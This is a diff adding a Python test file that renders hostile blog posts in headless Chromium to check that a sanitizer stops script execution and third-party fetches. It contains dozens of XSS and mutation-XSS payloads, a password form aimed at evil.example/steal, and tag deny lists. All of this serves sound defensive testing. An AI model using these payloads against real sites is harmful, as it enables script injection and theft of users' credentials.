@@ -1,0 +1,577 @@
+"""Safe bodies, checked in a real browser: every article of the hostile suite (tests/hostile.py,
+plus the attacks below) and a sample of the shared corpus, rendered by the real
+`build_db.py serve` on 127.0.0.1 in headless Chromium.
+
+For each page: no script runs (no canary global in any frame, no dialog, no popup, the page
+stays where it was loaded), nothing but images is fetched from another host (every request
+is recorded; the browser may only reach 127.0.0.1, so nothing actually leaves the machine),
+third-party images go without a Referer, and the rendered body carries
+`referrerpolicy="no-referrer"` and `loading="lazy"` on every image and
+`rel="noopener noreferrer nofollow"` on every link. The stored bodies are checked too, with
+no browser at all.
+"""
+
+from __future__ import annotations
+
+import re
+import sqlite3
+import subprocess
+import sys
+from collections import deque
+from dataclasses import dataclass, field
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from selectolax.lexbor import LexborHTMLParser
+
+from hostile import ARTICLE, write_good_posts, write_hostile_posts
+from postsdb.parse import article_id
+from postsdb.serve import PROJECT, free_port, running_server
+
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+    "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
+]
+LOCAL = "127.0.0.1"
+EVIL = "https://evil.example"
+CORPUS_SAMPLE = 20
+
+# --- attacks the hostile suite lacks: each sets a canary if it ever runs -------------------
+
+CANARY_ATTACKS = {
+    "scripts": """<p>脚本<script>window.__canary='script'</script></p><SCRIPT SRC="{evil}/x.js"></SCRIPT>
+<script src="/-/static/app.js"></script><script type="module">window.__canary='module'</script>
+<p>拆开<scr<script>ipt>window.__canary='split'</scr</script>ipt></p>""",
+    "handlers": """<p onclick="window.__canary='onclick'" onmouseover="window.__canary='onmouseover'">悬停</p>
+<img src="x" onerror="window.__canary='onerror'"><img src="{local_image}" onload="window.__canary='onload'" alt="本地图片">
+<details open ontoggle="window.__canary='ontoggle'"><summary>摘要</summary>内容</details>
+<input autofocus onfocus="window.__canary='onfocus'"><body onload="window.__canary='body-onload'">
+<video><source onerror="window.__canary='source-onerror'"></video><marquee onstart="window.__canary='marquee'">跑马灯</marquee>
+<div style="animation: spin 1s" onanimationstart="window.__canary='animation'">动画</div>
+<svg><animate onbegin="window.__canary='onbegin'" attributeName="x" dur="1s"/></svg>
+<img src="{evil}/a.png" OnErRoR="window.__canary='mixed-case'" alt="大小写"><img src="{evil}/b.png"/onerror="window.__canary='slash'" alt="斜线">""",
+    "links": """<p><a href="javascript:window.__canary='js-link'">一</a> <a href="JAVASCRIPT:window.__canary='js-upper'">二</a>
+<a href="&#x6A;avascript:window.__canary='js-entity'">三</a> <a href="java&#x0A;script:window.__canary='js-newline'">四</a>
+<a href="data:text/html,&lt;script&gt;parent.__canary='data-html'&lt;/script&gt;">五</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">六</a> <a href="vbscript:msgbox(1)">七</a>
+<a href="{evil}/page" target="_blank" rel="opener" ping="{evil}/ping">八</a> <a href="{evil}/file" download>九</a>
+<a href="https://good.example.org/ok">好链接</a></p>""",
+    "stylesheets-and-fonts": """<link rel="stylesheet" href="{evil}/x.css"><link rel="preload" as="font" href="{evil}/f.woff2" crossorigin>
+<link rel="prefetch" href="{evil}/p"><link rel="dns-prefetch" href="{evil}"><link rel="import" href="{evil}/i.html">
+<style>@import url("{evil}/import.css"); @font-face {{ font-family: evil; src: url("{evil}/font.woff2") }} body {{ font-family: evil; background: url("{evil}/bg.png") }}</style>
+<p style="font-family: evil; background-image: url({evil}/inline-bg.png)">样式</p><svg><style>@import url("{evil}/svg.css");</style></svg>
+<div style="behavior: url({evil}/x.htc); width: expression(window.__canary='expression')">旧IE</div>""",
+    "frames": """<iframe src="{evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__canary='srcdoc'&lt;/script&gt;"></iframe>
+<iframe src="javascript:parent.__canary='iframe-js'"></iframe><frameset><frame src="{evil}/frame2"></frameset>
+<object data="{evil}/x.html" type="text/html"></object><embed src="{evil}/x.swf"><applet code="x.class"></applet>
+<portal src="{evil}/portal"></portal><p>框架后</p>""",
+    "meta-and-base": """<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:window.__canary='meta'">
+<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="{evil}/"><base target="_blank">
+<p>相对<a href="relative/link">链接</a><img src="relative/image.png" alt="相对图片"></p>""",
+    "forms": """<form action="{evil}/steal" method="post"><input name="password" type="password">
+<button formaction="javascript:window.__canary='formaction'">提交</button><input type="image" src="{evil}/input.png"></form><p>表单后</p>""",
+    "svg-and-math": """<svg xmlns="http://www.w3.org/2000/svg" onload="window.__canary='svg-onload'"><script>window.__canary='svg-script'</script>
+<a xlink:href="javascript:window.__canary='svg-link'"><text x="0" y="15">点</text></a><image href="{evil}/svg-image.svg"/>
+<foreignObject><iframe src="{evil}/fo"></iframe></foreignObject><use href="{evil}/sprite.svg#x"/></svg>
+<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;">
+<math><maction actiontype="statusline" xlink:href="javascript:window.__canary='math-link'">数学</maction></math>
+<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>矢量图后</p>""",
+    "media-and-images": """<img src="{evil}/tracker.png" referrerpolicy="unsafe-url" loading="eager" alt="跟踪">
+<img srcset="{evil}/1x.png 1x, {evil}/2x.png 2x" alt="srcset"><img data-src="{evil}/lazy.png" src="data:image/gif;base64,R0lGOD" alt="懒加载">
+<picture><source srcset="{evil}/source.webp" type="image/webp"><img src="{evil}/picture.png" alt="picture"></picture>
+<audio src="{evil}/a.mp3" autoplay></audio><video src="{evil}/v.mp4" poster="{evil}/poster.png" autoplay></video>
+<table background="{evil}/table-bg.png"><tr><td background="{evil}/td-bg.png">表格</td></tr></table>
+<img src="{local_image}" alt="本地图片二">""",
+}
+# Mutation XSS: markup that a sanitizer and a browser may parse differently. One post each,
+# so that one swallowing the rest of the body cannot hide another.
+MUTATION_ATTACKS = {
+    "mglyph-style": """<math><mtext><table><mglyph><style><img src=x onerror="window.__canary='mglyph'"></style></mglyph></table></mtext></math>""",
+    "svg-p-style": """<svg></p><style><a id="</style><img src=1 onerror=window.__canary='svg-p-style'>"></svg>""",
+    "noscript-title": """<noscript><p title="</noscript><img src=x onerror=window.__canary='noscript'>">无脚本</p></noscript>""",
+    "form-math": """<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__canary='form-math'">""",
+    "math-style": """<math><style><img src=x onerror="window.__canary='math-style'"></style></math>""",
+    "svg-style": """<svg><style><img src=x onerror="window.__canary='svg-style'"></style></svg>""",
+    "select-template": """<select><template><style><img src=x onerror="window.__canary='select-template'"></style></template></select>""",
+    "textarea": """<textarea></textarea><img src=x onerror="window.__canary='textarea'"><textarea><img src=x onerror="window.__canary='in-textarea'"></textarea>""",
+    "title": """<title><img src=x onerror="window.__canary='title-element'"></title><p>后</p>""",
+    "xmp": """<xmp><img src=x onerror="window.__canary='xmp'"></xmp><p>后</p>""",
+    "noembed-noframes": """<noembed><img src=x onerror="window.__canary='noembed'"></noembed><noframes><img src=x onerror="window.__canary='noframes'"></noframes>""",
+    "comment": """<!--><img src=x onerror="window.__canary='comment'">--><p>后</p>""",
+    "cdata": """<![CDATA[><img src=x onerror="window.__canary='cdata'">]]><p>后</p>""",
+    "attribute-quotes": """<a href="https://good.example.org/q" title="&quot;&gt;&lt;img src=x onerror=window.__canary='attr'&gt;">属性</a>
+<img src="https://img.example.org/ok.png" alt="&quot; onerror=&quot;window.__canary='alt'">""",
+    "iframe-text": """<iframe><img src=x onerror="window.__canary='iframe-text'"></iframe><p>后</p>""",
+    "plaintext": """<p>前</p><plaintext><img src=x onerror="window.__canary='plaintext'">""",
+    "style-in-table": """<table><style><img src=x onerror="window.__canary='table-style'"></style><tr><td>格</td></tr></table>""",
+}
+# Front matter fields are shown on the article page too (escaped by the template).
+FIELD_ATTACK = {
+    "title": "</title><script>window.__canary='title'</script><img src=x onerror=\"window.__canary='title-img'\">",
+    "author": "<img src=x onerror=\"window.__canary='author'\">",
+    "tag": "<svg onload=\"window.__canary='tag'\">",
+    "category": "<iframe src=\"https://evil.example/category\"></iframe>",
+}
+
+
+def yaml_quote(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+def write_attack_posts(folder: Path, local_image: str) -> dict[str, str]:
+    """Every attack as a post, in the RSS shape (one `<div>` line: only the sanitizer stands
+    in the way) and the scraped shape (chrome removal first); return {url: name}."""
+    folder.mkdir(parents=True, exist_ok=True)
+    posts = {}
+
+    def write(name: str, body: str, title: str = "攻击", author: str = "作者", tag: str = "测试", category: str = "攻击"):
+        url = f"https://attacks.example.com/{name}"
+        front = (
+            f"---\nlayout: post\ntitle: {yaml_quote(title + ' ' + name)}\ndate: 2024-01-02T03:04:05Z\n"
+            f"author: {yaml_quote(author)}\nfrom: {url}\ntags: [ {yaml_quote(tag)} ]\ncategories: [ {yaml_quote(category)} ]\n---\n"
+        )
+        (folder / f"{name}.md").write_text(front + body, encoding="utf-8")
+        posts[url] = name
+
+    for name, template in CANARY_ATTACKS.items():
+        body = template.format(evil=EVIL, local_image=local_image)
+        write(f"{name}-rss", "<div>" + body.replace("\n", "") + "</div>\n")
+        write(f"{name}-scraped", "<article>\n" + body + "\n</article>\n")
+    for name, body in MUTATION_ATTACKS.items():
+        write(f"mxss-{name}", "<div>" + body.replace("\n", "") + "</div>\n")
+    write("front-matter-fields", "<div><p>字段</p></div>\n", **FIELD_ATTACK)
+    return posts
+
+
+# --- what stored HTML may hold --------------------------------------------------------
+
+FORBIDDEN_TAGS = frozenset(
+    "script style link iframe frame frameset form input button textarea select object embed applet "
+    "svg math meta base template noscript portal video audio source picture".split()
+)
+FORBIDDEN_TEXT = ("<script", "<iframe", "<style", "<link", "<form", "<object", "<embed", "<svg", "<base", "<meta")
+
+
+def stored_body_problems(db: Path) -> list[str]:
+    """Every body_html, read as a browser reads it: forbidden elements, `on…` attributes,
+    URLs with a scheme other than http(s)/mailto, and the raw markers of active content."""
+    problems = []
+    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
+    try:
+        rows = conn.execute("select article_id, body_html from article_bodies").fetchall()
+    finally:
+        conn.close()
+    for article, html in rows:
+        html = html or ""
+        lower = html.lower()
+        problems += [f"{article}: {marker}" for marker in FORBIDDEN_TEXT if marker in lower]
+        for marker in ("javascript:", "vbscript:", "data:text/html"):
+            for match in re.finditer(re.escape(marker), lower):
+                # Only in text (escaped) is it harmless: never inside a tag.
+                if lower.rfind("<", 0, match.start()) > lower.rfind(">", 0, match.start()):
+                    problems.append(f"{article}: {marker} inside a tag")
+        tree = LexborHTMLParser(f"<body>{html}</body>")
+        for node in tree.root.traverse() if tree.root is not None else []:
+            if node.tag in FORBIDDEN_TAGS:
+                problems.append(f"{article}: <{node.tag}>")
+            for name, value in (node.attributes or {}).items():
+                if name.lower().startswith("on"):
+                    problems.append(f"{article}: <{node.tag} {name}=…>")
+                elif name in ("href", "src", "srcset", "action", "formaction", "poster", "background", "xlink:href"):
+                    if not re.match(r"(https?:|mailto:)", "".join((value or "").split()), re.I):
+                        problems.append(f"{article}: <{node.tag} {name}={value!r}>")
+                elif name == "style":
+                    problems.append(f"{article}: <{node.tag} style>")
+    return problems
+
+
+# --- the browser ----------------------------------------------------------------------
+
+
+@dataclass
+class Visit:
+    url: str
+    status: int | None = None
+    requests: list[dict] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+    popups: list[str] = field(default_factory=list)
+    canaries: list[str] = field(default_factory=list)
+    final_url: str = ""
+    frames: int = 0
+    dom: dict = field(default_factory=dict)
+
+    def third_party(self, *types: str) -> list[str]:
+        return [
+            f"{r['type']} {r['url']}"
+            for r in self.requests
+            if urlsplit(r["url"]).hostname != LOCAL and urlsplit(r["url"]).scheme in ("http", "https", "ws", "wss")
+            and (not types or r["type"] in types)
+        ]
+
+    def script_problems(self) -> list[str]:
+        found = [f"canary {c!r}" for c in self.canaries]
+        found += [f"dialog {d!r}" for d in self.dialogs] + [f"popup {p}" for p in self.popups]
+        if self.final_url != self.url:
+            found.append(f"navigated to {self.final_url}")
+        if self.frames != 1:
+            found.append(f"{self.frames} frames")
+        found += [f"{kind}: {item}" for kind in ("handlers", "active", "bad_hrefs", "foreign_sheets", "foreign_scripts") for item in self.dom.get(kind, [])]
+        if self.dom.get("base_uri") != self.url:
+            found.append(f"base URI {self.dom.get('base_uri')}")
+        return found
+
+    def request_problems(self) -> list[str]:
+        """Nothing but images from another host; those without a Referer."""
+        found = [f"third-party {r}" for r in self.third_party() if not r.startswith("image ")]
+        found += [
+            f"Referer {r['referer']!r} sent with {r['url']}"
+            for r in self.requests
+            if r["type"] == "image" and urlsplit(r["url"]).hostname != LOCAL and r["referer"]
+        ]
+        return found
+
+    def leak_problems(self) -> list[str]:
+        return [f"{kind}: {item}" for kind in ("images_without_policy", "links_without_rel") for item in self.dom.get(kind, [])]
+
+
+# Run in the page once it has loaded: poke every element of the body the way a reader
+# might (links with an href excepted: following one is not running script), then read
+# the DOM. `container` is the element that holds the rendered body.
+POKE_JS = """
+container => {
+  const elements = Array.from(document.querySelectorAll(`${container} *`)).slice(0, 3000);
+  for (const el of elements) {
+    for (const type of ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup', 'pointerover', 'focus', 'focusin', 'animationstart', 'load', 'error', 'toggle'])
+      el.dispatchEvent(new Event(type, {bubbles: true}));
+    if (typeof el.click === 'function' && !el.closest('a[href], area[href]')) el.click();
+  }
+  window.scrollTo(0, document.body.scrollHeight);
+  return elements.length;
+}
+"""
+DOM_JS = """
+container => {
+  const local = location.origin;
+  const roots = Array.from(document.querySelectorAll(container));
+  const inBody = sel => roots.flatMap(root => Array.from(root.querySelectorAll(sel)));
+  const describe = el => el.outerHTML.slice(0, 160);
+  const handlers = [];
+  for (const el of document.querySelectorAll('*'))
+    for (const attr of el.attributes)
+      if (attr.name.toLowerCase().startsWith('on')) handlers.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
+  const active = inBody('script, style, link, meta, base, iframe, frame, object, embed, form, input, button, textarea, select, svg, math, template, video, audio, source, picture')
+    .map(describe)
+    .concat(Array.from(document.querySelectorAll('iframe, frame, object, embed, base, meta[http-equiv], portal')).map(describe));
+  const badHrefs = Array.from(document.querySelectorAll('a[href], area[href]'))
+    .filter(a => !['http:', 'https:', 'mailto:'].includes(a.protocol)).map(describe);
+  const foreignSheets = Array.from(document.styleSheets).map(s => s.href).filter(h => h && !h.startsWith(local));
+  const foreignScripts = Array.from(document.scripts).map(s => s.src).filter(s => s && !s.startsWith(local));
+  const images = inBody('img');
+  return {
+    handlers, active, bad_hrefs: badHrefs, foreign_sheets: foreignSheets, foreign_scripts: foreignScripts,
+    base_uri: document.baseURI,
+    images: images.length,
+    images_without_policy: images.filter(i => i.getAttribute('referrerpolicy') !== 'no-referrer' || i.getAttribute('loading') !== 'lazy').map(describe),
+    links: inBody('a[href]').length,
+    links_without_rel: inBody('a[href]').filter(a => a.getAttribute('rel') !== 'noopener noreferrer nofollow').map(describe),
+    local_images_loaded: images.filter(i => i.src.startsWith(local) && i.complete && i.naturalWidth > 0).length,
+    text_length: roots.reduce((sum, root) => sum + root.innerText.length, 0),
+  };
+}
+"""
+CANARY_JS = "() => window.__canary === undefined ? null : String(window.__canary)"
+
+
+@pytest.fixture(scope="module")
+def browser():
+    """A fresh context (no profile on disk: a fifth faster per page than a persistent one)
+    that may only reach 127.0.0.1."""
+    if not CHROMIUM.exists():
+        pytest.skip(f"{CHROMIUM} is missing (apt-get install chromium; .ci/run does)")
+    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
+    with sync_api.sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
+        context = chromium.new_context(viewport={"width": 1000, "height": 900}, service_workers="block")
+        context.route("**/*", only_local)
+        yield context
+        context.close()
+        chromium.close()
+
+
+def only_local(route):
+    if urlsplit(route.request.url).hostname == LOCAL:
+        route.continue_()
+    else:
+        route.abort()
+
+
+class Lane:
+    """One browser page, reused for visit after visit; its events go to the current visit."""
+
+    def __init__(self, context):
+        self.page = context.new_page()
+        self.seen: Visit | None = None
+        self.page.on("request", self.on_request)
+        self.page.on("dialog", self.on_dialog)
+        self.page.on("popup", lambda popup: self.seen.popups.append(popup.url))
+
+    def on_request(self, request):
+        self.seen.requests.append(
+            {"url": request.url, "type": request.resource_type, "referer": request.headers.get("referer")}
+        )
+
+    def on_dialog(self, dialog):
+        self.seen.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def start(self, url: str) -> None:
+        self.seen = Visit(url)
+        response = self.page.goto(url, wait_until="commit", timeout=60_000)
+        self.seen.status = response.status if response else None
+
+    def finish(self, container: str, settle_ms: int) -> Visit:
+        """Wait for the load, poke the body, and read what happened."""
+        page, seen = self.page, self.seen
+        page.wait_for_load_state("load", timeout=90_000)
+        page.evaluate(POKE_JS, container)
+        page.wait_for_timeout(settle_ms)  # onerror of failed images, meta refresh, animations
+        for frame in page.frames:
+            try:
+                value = frame.evaluate(CANARY_JS)
+            except Exception as error:  # a frame that went away: itself a finding
+                value = f"unreadable frame {frame.url}: {error}"
+            if value is not None:
+                seen.canaries.append(value)
+        seen.final_url = page.url
+        seen.frames = len(page.frames)
+        seen.dom = page.evaluate(DOM_JS, container)
+        return seen
+
+
+def visit_all(context, urls: list[str], container: str = ".article-body", slow: int = 0, lanes: int = 2, settle_ms: int = 50) -> list[Visit]:
+    """Visit every URL, `lanes` pages at a time, so that one page's load overlaps another's
+    checks. The first `slow` URLs load in pages of their own meanwhile, checked last."""
+    background = [Lane(context) for _ in urls[:slow]]
+    pool = [Lane(context) for _ in range(min(lanes, len(urls) - slow))]
+    queue, busy, visits = list(urls[slow:]), deque(), []
+    try:
+        for lane, url in zip(background, urls):
+            lane.start(url)
+        for lane in pool:
+            lane.start(queue.pop(0))
+            busy.append(lane)
+        while busy:
+            lane = busy.popleft()
+            visits.append(lane.finish(container, settle_ms))
+            if queue:
+                lane.start(queue.pop(0))
+                busy.append(lane)
+        slow_visits = [lane.finish(container, settle_ms) for lane in background]
+    finally:
+        for lane in background + pool:
+            lane.page.close()
+    return slow_visits + visits
+
+
+def visit(context, url: str, container: str = ".article-body", settle_ms: int = 50) -> Visit:
+    return visit_all(context, [url], container, lanes=1, settle_ms=settle_ms)[0]
+
+
+def report(visits: list[Visit], check) -> str:
+    lines = [f"{v.url}: {problem}" for v in visits for problem in check(v)]
+    return "\n".join(lines[:80]) + (f"\n… {len(lines) - 80} more" if len(lines) > 80 else "")
+
+
+# --- the shared corpus --------------------------------------------------------------------
+
+
+def corpus_sample(db: Path, size: int = CORPUS_SAMPLE) -> list[tuple[str, int]]:
+    """`size` articles spread over the sources: round-robin, oldest first within each."""
+    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
+        rows = conn.execute("select coalesce(source, ''), id from articles order by source, published, id").fetchall()
+    by_source: dict[str, list[int]] = {}
+    for source, article in rows:
+        by_source.setdefault(source, []).append(article)
+    queues = sorted(by_source.items(), key=lambda item: -len(item[1]))
+    sample = []
+    while len(sample) < size and any(ids for _, ids in queues):
+        for source, ids in queues:
+            if ids and len(sample) < size:
+                sample.append((source, ids.pop(len(ids) // 2)))  # from the middle: not all edge cases
+    return sample
+
+
+@pytest.fixture(scope="module")
+def corpus_visits(corpus_db, browser) -> list[tuple[str, Visit]]:
+    sample = corpus_sample(corpus_db)
+    with running_server(corpus_db) as base:
+        visits = visit_all(browser, [f"{base}/posts/articles/{article}" for _, article in sample])
+    return [(source, seen) for (source, _), seen in zip(sample, visits)]
+
+
+def test_stored_corpus_bodies_hold_no_active_content(corpus_db):
+    problems = stored_body_problems(corpus_db)
+    assert not problems, "\n".join(problems[:50])
+
+
+def test_corpus_sample_renders_safely(corpus_visits):
+    visits = [v for _, v in corpus_visits]
+    sources = {source for source, _ in corpus_visits}
+    assert len(visits) == CORPUS_SAMPLE and len(sources) >= 3, sources
+    assert all(v.status == 200 and v.dom["text_length"] > 50 for v in visits), [(v.url, v.status) for v in visits]
+    for check in (Visit.script_problems, Visit.request_problems, Visit.leak_problems):
+        problems = report(visits, check)
+        assert not problems, problems
+    assert sum(v.dom["images"] for v in visits) > 0 and sum(v.dom["links"] for v in visits) > 0
+
+
+def test_the_checks_catch_what_they_look_for(browser):
+    """A page that does everything the article pages must not: every check must fire."""
+    page_html = f"""<!doctype html><html><head>
+<link rel="stylesheet" href="{EVIL}/x.css"><style>@font-face {{ font-family: e; src: url({EVIL}/f.woff2) }} body {{ font-family: e }}</style>
+</head><body><div class="article-body"><p>x</p><script>window.__canary = 'control'</script>
+<img src="{EVIL}/leak.png"><img src="x" onerror="alert('control')"><a href="javascript:void(0)">js</a>
+<a href="https://example.org/">no rel</a><iframe src="{EVIL}/frame"></iframe><script src="{EVIL}/x.js"></script></div></body></html>"""
+    url = f"http://{LOCAL}:9/control"  # never reached: the route below answers it
+
+    def fulfil(route):
+        route.fulfill(status=200, content_type="text/html", body=page_html)
+
+    browser.route(url, fulfil)
+    try:
+        seen = visit(browser, url, settle_ms=300)
+    finally:
+        browser.unroute(url, fulfil)
+    script = "\n".join(seen.script_problems())
+    assert "canary 'control'" in script and "dialog 'control'" in script and "handlers: <img onerror>" in script
+    assert "javascript:void(0)" in script and "<iframe" in script and "2 frames" in script
+    requests = "\n".join(seen.request_problems())
+    for kind in ("stylesheet", "font", "script", "document"):
+        assert f"third-party {kind} {EVIL}" in requests, (kind, requests)
+    assert f"sent with {EVIL}/leak.png" in requests, requests  # an image without the policy sends a Referer
+    leaks = "\n".join(seen.leak_problems())
+    assert "leak.png" in leaks and "no rel" in leaks
+
+
+# --- the hostile site -------------------------------------------------------------------
+
+
+@dataclass
+class Site:
+    db: Path
+    port: int
+    attack_urls: dict[str, str]  # url -> post name
+    ids: list[int]
+    big_ids: list[int]
+
+
+@pytest.fixture(scope="module", autouse=True)
+def hostile_build(tmp_path_factory):
+    """tests/hostile.py's suite, its good posts and the attacks above, built into one database
+    by `build_db.py build` in the background (~10 s, mostly the 20 MB body) from the module's
+    first test on, while the corpus sample is visited."""
+    base = tmp_path_factory.mktemp("hostile-browser")
+    suite = base / "posts"
+    suite.mkdir()
+    expected = write_hostile_posts(suite)
+    write_good_posts(suite)
+    port = free_port()
+    attack_urls = write_attack_posts(base / "attacks", f"http://{LOCAL}:{port}/-/static/favicon.png")
+    db = base / "site" / "posts.db"
+    command = [sys.executable, str(PROJECT / "build_db.py"), "build", str(suite), str(base / "attacks"), "--db", str(db)]
+    with (base / "build.log").open("wb") as log:
+        process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT, cwd=base)
+    try:
+        yield process, base, db, port, attack_urls, expected
+    finally:
+        if process.poll() is None:  # the module ended early: stop the build (by its id)
+            process.kill()
+            process.wait(10)
+
+
+@pytest.fixture(scope="module")
+def hostile_site(hostile_build) -> Site:
+    process, base, db, port, attack_urls, expected = hostile_build
+    returncode = process.wait(timeout=240)
+    assert returncode == 0, (base / "build.log").read_text(errors="replace")[-3000:]
+    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
+        ids = [row[0] for row in conn.execute("select id from articles order by path")]
+        big_ids = [row[0] for row in conn.execute("select article_id from article_bodies where length(body_html) > 500000")]
+        files = {path for (path,) in conn.execute("select path from article_files")}
+    # The suite's articles are the ones it expects (test_hostile.py checks each outcome).
+    assert {f"posts/{name}" for name, outcome in expected.items() if outcome == ARTICLE} <= files
+    return Site(db, port, attack_urls, ids, big_ids)
+
+
+@pytest.fixture(scope="module")
+def hostile_visits(hostile_site, browser) -> dict[int, Visit]:
+    visits = {}
+    with running_server(hostile_site.db, port=hostile_site.port) as base:
+        # The biggest bodies load in the background (Chromium takes ~15 s to lay out the
+        # 20 MB one) while the others are visited.
+        order = hostile_site.big_ids + [a for a in hostile_site.ids if a not in hostile_site.big_ids]
+        urls = [f"{base}/posts/articles/{article}" for article in order]
+        for article, seen in zip(order, visit_all(browser, urls, slow=len(hostile_site.big_ids))):
+            visits[article] = seen
+        attack_ids = ",".join(str(article_id(url)) for url in hostile_site.attack_urls)
+        # datasette-render-html shows stored bodies unsanitized on this table page.
+        visits[0] = visit(browser, f"{base}/posts/article_bodies?article_id__in={attack_ids}&_size=100", "td.col-body_html")
+    return visits
+
+
+def test_every_attack_became_an_article(hostile_site):
+    with sqlite3.connect(f"file:{hostile_site.db}?mode=ro", uri=True) as conn:
+        urls = {url for (url,) in conn.execute("select url from articles")}
+        problems = conn.execute("select path, reason from problems where path like 'attacks/%'").fetchall()
+    assert not problems
+    assert set(hostile_site.attack_urls) <= urls
+    assert len(hostile_site.ids) > 80
+
+
+def test_stored_hostile_bodies_hold_no_active_content(hostile_site):
+    problems = stored_body_problems(hostile_site.db)
+    assert not problems, "\n".join(problems[:50])
+
+
+def test_every_hostile_article_page_loads(hostile_visits, hostile_site):
+    assert len(hostile_visits) == len(hostile_site.ids) + 1
+    broken = [f"{v.url}: {v.status}" for v in hostile_visits.values() if v.status != 200]
+    assert not broken, "\n".join(broken)
+    assert hostile_visits[0].dom["text_length"] > 200  # the bodies table showed the attack posts
+
+
+def test_no_script_runs_on_hostile_pages(hostile_visits):
+    problems = report(list(hostile_visits.values()), Visit.script_problems)
+    assert not problems, problems
+
+
+def test_hostile_pages_fetch_no_third_party_stylesheet_font_frame_or_script(hostile_visits):
+    problems = report(list(hostile_visits.values()), Visit.request_problems)
+    assert not problems, problems
+    # The recorder saw the article's own third-party images (a page without them would pass
+    # vacuously), and they went without a Referer (request_problems).
+    images = [r for v in hostile_visits.values() for r in v.third_party("image")]
+    assert images, "no third-party image was requested: the check saw nothing"
+
+
+def test_hostile_images_and_links_carry_referrer_and_rel_policies(hostile_visits):
+    problems = report(list(hostile_visits.values()), Visit.leak_problems)
+    assert not problems, problems
+    assert sum(v.dom["images"] for v in hostile_visits.values()) > 20
+    assert sum(v.dom["links"] for v in hostile_visits.values()) > 20
+
+
+def test_images_keep_working(hostile_visits, hostile_site):
+    """The attack posts' images served by 127.0.0.1 itself load, policies and all."""
+    handlers = hostile_visits[article_id("https://attacks.example.com/handlers-rss")]
+    media = hostile_visits[article_id("https://attacks.example.com/media-and-images-scraped")]
+    assert handlers.dom["local_images_loaded"] == 1, handlers.dom
+    assert media.dom["local_images_loaded"] == 1, media.dom
+    assert media.dom["images"] == 5 and not media.dom["images_without_policy"]
